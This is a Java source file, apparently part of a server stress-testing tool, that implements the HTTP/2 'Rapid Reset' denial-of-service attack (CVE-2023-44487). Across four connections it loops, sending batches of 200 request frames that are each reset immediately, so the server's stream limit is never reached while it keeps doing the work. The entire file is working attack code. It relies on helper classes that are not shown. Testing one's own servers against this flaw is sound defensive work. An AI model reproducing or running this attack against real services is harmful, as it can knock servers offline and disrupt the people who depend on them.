package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Frames;
import dev.coatcheck.cli.hostile.wire.Http2Connection;
import java.io.IOException;
import java.util.Set;

/**
 * Requests that are reset as soon as they are sent (CVE-2023-44487), so that the limit of streams
 * never counts.
 */
final class RapidReset implements Attack {

  private static final int CONNECTIONS = 4;
  private static final int AT_ONCE = 200;
  private static final byte[] EMPTY_MESSAGE = Creates.message(false, new byte[0]);

  @Override
  public String name() {
    return "rapid reset";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.values());
  }

  @Override
  public void strike(Attacker attacker) throws InterruptedException {
    attacker.repeat(CONNECTIONS, () -> reset(attacker));
  }

  private static void reset(Attacker attacker) throws IOException {
    Door door = attacker.door();
    byte[] head = door.cheapRequest().toBytes();
    Http2Connection connection = attacker.http2();
    while (!attacker.isOver()) {
      Frames frames = new Frames();
      for (int i = 0; i < AT_ONCE; i++) {
        int stream = connection.nextStream();
        if (door.isGrpc()) {
          frames
              .headers(stream, head, Frames.END_HEADERS)
              .data(stream, EMPTY_MESSAGE, Frames.END_STREAM);
        } else {
          frames.headers(stream, head, Frames.END_HEADERS | Frames.END_STREAM);
        }
        frames.reset(stream);
      }
      connection.send(frames);
    }
  }
}
